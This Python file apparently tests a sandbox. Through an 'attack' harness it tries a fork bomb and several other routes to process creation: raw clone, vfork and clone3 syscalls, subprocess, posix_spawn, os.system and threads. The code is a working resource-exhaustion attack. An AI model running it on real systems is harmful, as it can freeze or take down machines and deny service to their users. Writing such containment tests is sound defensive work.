"""Makes children in every way there is; each child would make more."""

import os
import platform
import subprocess
import threading

from trial import attack, syscall

CLONE, VFORK = {"x86_64": (56, 58), "aarch64": (220, 220)}[platform.machine()]


def fork():
    while os.fork():
        pass
    while True:
        os.fork()


attack(
    lambda target: {
        "fork": fork,
        "clone": lambda: syscall(CLONE, 17, 0, 0, 0, 0),
        "vfork": lambda: syscall(VFORK, 0),
        "clone3": lambda: syscall(435, bytes(88), 88),
        "subprocess": lambda: subprocess.run(["/bin/true"]),
        "posix_spawn": lambda: os.posix_spawn("/bin/true", ["true"], {}),
        "shell": lambda: None if os.system("true") == 0 else os.fork(),
        "thread": lambda: threading.Thread(target=fork).start(),
    }
)
